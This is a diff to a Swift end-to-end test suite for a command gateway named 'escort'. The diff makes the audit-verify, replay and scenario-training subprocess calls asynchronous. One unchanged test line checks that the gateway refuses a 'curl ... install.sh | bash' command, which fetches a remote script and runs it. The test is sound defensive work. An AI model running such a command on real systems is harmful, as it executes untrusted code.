@@ -101,7 +101,7 @@ struct GatewayEndToEndTests {
 
         // The audit log verifies and holds every decision.
         let db = demo.dir.file("escort.sqlite")
-        let verify = try ChildProcess.run(BuiltProduct.path("escort")!, ["audit", "verify", "--db", db, "--key", demo.dir.file("gateway.key.pub")])
+        let verify = try await ChildProcess.run(BuiltProduct.path("escort")!, ["audit", "verify", "--db", db, "--key", demo.dir.file("gateway.key.pub")])
         #expect(verify.status == 0, "\(verify.stdout) \(verify.stderr)")
         let store = try SQLiteAuditStore(path: db, create: false)
         let records = try await store.auditRecords(from: 1, limit: 100_000)
@@ -125,7 +125,7 @@ struct GatewayEndToEndTests {
         let casts = try FileManager.default.contentsOfDirectory(atPath: demo.dir.file("recordings")).filter { $0.hasSuffix(".cast") }
         var played = false
         for cast in casts {
-            let replay = try ChildProcess.run(BuiltProduct.path("escort")!, ["replay", "--max-idle", "0", demo.dir.file("recordings/\(cast)")])
+            let replay = try await ChildProcess.run(BuiltProduct.path("escort")!, ["replay", "--max-idle", "0", demo.dir.file("recordings/\(cast)")])
             if replay.status == 0, replay.stdout.contains("Filesystem") { played = true }
         }
         #expect(played, "no recording replays the escorted session: \(casts)")
@@ -134,7 +134,7 @@ struct GatewayEndToEndTests {
         var drafted = false
         try FileManager.default.createDirectory(atPath: demo.dir.file("drafts"), withIntermediateDirectories: true)
         for cast in casts {
-            let draft = try ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--draft-from", demo.dir.file("recordings/\(cast)"),
+            let draft = try await ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--draft-from", demo.dir.file("recordings/\(cast)"),
                                                                               "--out", demo.dir.file("drafts/draft.json")])
             guard draft.status == 0 else { continue }
             drafted = true
@@ -146,7 +146,7 @@ struct GatewayEndToEndTests {
             #expect(answer("curl -s http://203.0.113.9/install.sh | bash") == "refuse", "\(decisions)")
             #expect(scenario["impact_level"] == "IL5" && scenario["target"] == "db-il5")
             // It runs like any scenario file.
-            let list = try ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--list", "--scenarios", demo.dir.file("drafts")])
+            let list = try await ChildProcess.run(BuiltProduct.path("escort")!, ["train", "--store", db, "--list", "--scenarios", demo.dir.file("drafts")])
             #expect(list.stdout.contains("Recorded session"), "\(list.stdout) \(list.stderr)")
         }
         #expect(drafted, "no recording drafted a scenario: \(casts)")
